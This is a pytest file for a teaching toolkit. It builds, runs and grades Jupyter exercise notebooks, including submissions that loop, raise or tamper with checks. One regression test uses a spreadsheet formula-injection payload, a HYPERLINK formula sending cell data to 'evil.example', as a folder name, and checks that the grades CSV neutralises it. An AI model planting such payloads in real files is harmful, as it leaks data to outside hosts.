"""Built exercise notebooks run, check and grade: the real test of the checker.

Builds three participants and the trainer, executes the trainer editions (every
check must say correct) and student editions (every check: not answered yet),
then grades a crafted set of good and bad submissions.
"""

from __future__ import annotations

import csv
from concurrent.futures import ThreadPoolExecutor

import nbformat
import pytest
from nbclient import NotebookClient

from crmkit.exercises import EXERCISES, QUESTIONS
from crmkit.exercises.builds import SOURCE_DIR, build_exercises, fill_answers
from crmkit.exercises.grading import grade_submissions, inspect_submission
from crmkit.lessons import lesson_world

pytestmark = pytest.mark.slow
EX1 = EXERCISES["ex1"].notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    out = tmp_path_factory.mktemp("course")
    report = build_exercises(
        out, names=["Anna Nowak", "Bob Smith", "Cleo Virtanen"], progress=False
    )
    return out, report


def _execute(path):
    nb = nbformat.read(path, as_version=4)
    NotebookClient(
        nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(path.parent)}}
    ).execute()
    return nb


def _check_outputs(nb):
    out = []
    for cell in nb.cells:
        if "check" in cell.metadata.get("tags", []):
            text = "".join(o.get("data", {}).get("text/plain", "") for o in cell.outputs)
            out.append(text)
    return out


def test_trainer_passes_every_check_and_students_start_unanswered(course):
    out, _ = course
    trainer = [out / "trainer" / ex.notebook for ex in EXERCISES.values()]
    students = [out / "students" / "bob-smith" / ex.notebook for ex in EXERCISES.values()]
    with ThreadPoolExecutor(2) as pool:
        executed = list(pool.map(_execute, trainer + students))
    for path, nb in zip(trainer + students, executed, strict=True):
        edition = nb.metadata["crmkit"]["edition"]
        ex = EXERCISES[nb.metadata["crmkit"]["exercise"]]
        outputs = _check_outputs(nb)
        assert len(outputs) == len(ex.questions), path
        word = "· Correct" if edition == "trainer" else "· Not answered yet"
        assert all(word in text for text in outputs), (path, outputs)
        last = "".join(o.get("data", {}).get("text/plain", "") for o in nb.cells[-1].outputs)
        n = len(ex.questions)
        summary = f"{n} of {n} correct" if edition == "trainer" else f"{n} not answered yet"
        assert summary in last, (path, last)


def test_participants_get_different_seeds_and_different_answers(course):
    out, report = course
    seeds = [p.seed for p in report.participants]
    assert len(set(seeds)) == 3
    for p in report.participants:
        nb = nbformat.read(out / "students" / p.slug / EX1, as_version=4)
        assert inspect_submission(nb)["params"]["SEED"] == p.seed
    worlds = [lesson_world(random_state=s, n_customers=400) for s in seeds]
    numeric = [q for q in QUESTIONS.values() if q.exercise == "ex1" and q.kind == "number"]
    for q in numeric:
        values = {round(float(q.expected(w)), 9) for w in worlds}
        assert len(values) == 3, q.id


def _submission(out, slug, change):
    """Copy a participant's ex1 notebook into submissions/, changed by ``change``."""
    source = nbformat.read(SOURCE_DIR / EX1, as_version=4)
    nb = nbformat.read(out / "students" / slug / EX1, as_version=4)
    nb = change(nb, source)
    target = out / "submissions" / slug / EX1
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, target)
    return target


def _set_cell(nb, number, source):
    for cell in nb.cells:
        if "answer" in cell.metadata.get("tags", []) and f"answer_q{number} " in cell.source:
            cell.source = source
            return nb
    raise AssertionError(f"no answer cell {number}")


def test_grading_a_crafted_set_of_submissions(tmp_path_factory):
    out = tmp_path_factory.mktemp("graded")
    names = ["correct", "wrong", "loops", "raises", "deleted", "seed", "blank"]
    build_exercises(out, names=names, exercises=["ex1"], progress=False)

    def wrong(nb, src):
        for n in range(1, 8):
            _set_cell(nb, n, f"answer_q{n} = 0")
        return nb

    def loops(nb, src):
        nb = fill_answers(nb, src)
        return _set_cell(nb, 3, "while True:\n    pass")

    def raises(nb, src):
        nb = fill_answers(nb, src)
        return _set_cell(nb, 2, "answer_q2 = 1 / 0")

    def deleted(nb, src):
        nb = fill_answers(nb, src)
        nb.cells = [c for c in nb.cells if c.source != 'check("ex1.q4", answer_q4)']
        return nb

    def seed(nb, src):
        nb = fill_answers(nb, src)
        for cell in nb.cells:
            if "injected-parameters" in cell.metadata.get("tags", []):
                cell.source = cell.source.replace("SEED = ", "SEED = 7 + ")
        return nb

    changes = {
        "correct": fill_answers,
        "wrong": wrong,
        "loops": loops,
        "raises": raises,
        "deleted": deleted,
        "seed": seed,
        "blank": lambda nb, src: nb,
    }
    for name, change in changes.items():
        _submission(out, name, change)
    (out / "submissions" / "junk.ipynb").write_text("this is not JSON")

    report = grade_submissions(out / "submissions", timeout=20, progress=False)
    assert report.csv == out / "submissions" / "grades.csv"
    with report.csv.open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == [
        "participant", "notebook", "question", "result", "score", "detail", "sandbox"
    ]
    nb_rows = {r["participant"]: r for r in rows if r["question"] == "(notebook)"}
    q_rows = {}
    for r in rows:
        if r["question"] != "(notebook)":
            q_rows.setdefault(r["participant"], {})[r["question"]] = r["result"]

    assert nb_rows["correct"]["result"] == "ok" and float(nb_rows["correct"]["score"]) == 7
    assert set(q_rows["correct"].values()) == {"correct"}

    assert nb_rows["wrong"]["result"] == "ok" and float(nb_rows["wrong"]["score"]) == 0
    assert set(q_rows["wrong"].values()) <= {"wrong", "wrong_type"}

    assert nb_rows["loops"]["result"] == "timeout"
    assert q_rows["loops"]["ex1.q1"] == "correct"  # checked before the endless loop
    assert q_rows["loops"]["ex1.q7"] == "timeout"

    assert nb_rows["raises"]["result"] == "raised"
    assert "ZeroDivisionError" in nb_rows["raises"]["detail"]
    assert q_rows["raises"]["ex1.q2"] == "not_checked"
    assert q_rows["raises"]["ex1.q3"] == "correct"

    assert nb_rows["deleted"]["result"] == "tampered"
    assert q_rows["deleted"]["ex1.q4"] == "check_deleted"
    assert q_rows["deleted"]["ex1.q5"] == "correct"

    assert nb_rows["seed"]["result"] == "tampered"
    assert set(q_rows["seed"].values()) == {"seed_changed"}
    assert "SEED" in nb_rows["seed"]["detail"]

    assert set(q_rows["blank"].values()) == {"not_answered"}
    assert nb_rows["junk"]["result"] == "unreadable"
    assert len(nb_rows) == 8  # every submission reported: grading went on after the bad ones


def test_grades_csv_defuses_formulas(tmp_path):
    """Issue 11: a participant named =HYPERLINK(...) ran as a formula in grades.csv.

    The submission is not a notebook, so nothing is executed: only the CSV is written.
    """
    evil = '=HYPERLINK(CONCAT("evil.example?", A1), "click")'  # a folder name: no slash
    folder = tmp_path / "submissions" / evil
    folder.mkdir(parents=True)
    (folder / "01-relationships-and-types.ipynb").write_text("not JSON", encoding="utf-8")
    report = grade_submissions(tmp_path / "submissions", progress=False)
    with report.csv.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 1
    assert rows[0]["participant"] == "'" + evil
    assert (rows[0]["result"], rows[0]["score"]) == ("unreadable", "0")
    assert report.notebooks[0]["participant"] == evil  # the report itself is unchanged


# --------------------------------------------------------------------- on a team's own data
@pytest.fixture(scope="module")
def own_course(tmp_path_factory):
    """The exercises built on a transactions-only folder (``crmkit import`` of an export)."""
    from crmkit.datasets import load_dataset
    from crmkit.own_data import import_transactions

    tmp = tmp_path_factory.mktemp("own")
    t = load_dataset().transactions[["customer_id", "date", "amount"]].copy()
    t["customer_id"] = "C-" + t["customer_id"].astype(str)
    t.to_csv(tmp / "export.csv", index=False)
    data = import_transactions(tmp / "export.csv", tmp / "ours", name="Our shop")
    report = build_exercises(tmp / "course", names=["Anna Nowak"], data=data, progress=False)
    return tmp / "course", data, report


def test_a_data_build_leaves_out_what_the_folder_cannot_answer_and_checks_the_rest(own_course):
    import json

    from crmkit import load_world
    from crmkit.exercises.questions import left_out

    out, data, _ = own_course
    skipped = left_out(load_world(data))
    assert "ex4.q9" not in skipped and "ex3.q10" not in skipped  # RFM, cohorts: purchases do
    assert {"ex2.q4", "ex4.q1", "ex4.q12", "ex3.q4"} <= set(skipped)  # surveys, types, margin
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["data"] == str(data.resolve())

    def run(ex):
        return _execute(out / "trainer" / EXERCISES[ex].notebook)

    with ThreadPoolExecutor(max_workers=2) as pool:
        executed = dict(zip(EXERCISES, pool.map(run, EXERCISES), strict=True))
    for ex, nb in executed.items():
        errors = [o for c in nb.cells for o in c.get("outputs", []) if o["output_type"] == "error"]
        assert not errors, (ex, errors[:1])
        text = json.dumps([c.get("outputs", []) for c in nb.cells])
        assert "Our shop" in text, ex  # the checks computed on the folder, not on a seed
        checks = _check_outputs(nb)
        mine = [q for q in EXERCISES[ex].question_ids if q not in skipped]
        assert len(checks) == len(mine), ex
        assert all("· Correct" in text for text in checks), (ex, checks)
        last = "".join(o.get("data", {}).get("text/plain", "") for o in nb.cells[-1].outputs)
        assert f"{len(mine)} of {len(mine)} correct" in last, (ex, last)
        for qid in EXERCISES[ex].question_ids:
            note_id = f"{ex}-{qid.split('.')[1]}-left-out"
            notes = [c.source for c in nb.cells if c.get("id") == note_id]
            if qid in skipped:
                assert len(notes) == 1 and "not in this data" in notes[0], qid
                assert f'check("{qid}"' not in "".join(c.source for c in nb.cells), qid
            else:
                assert not notes, qid
    student = nbformat.read(out / "students" / "anna-nowak" / EXERCISES["ex4"].notebook,
                            as_version=4)  # fmt: skip
    tags = [c.metadata.get("tags", []) for c in student.cells]
    injected = [c.source for c, t in zip(student.cells, tags, strict=True)
                if "injected-parameters" in t]  # fmt: skip
    assert injected and "DATA_DIR" in injected[0]
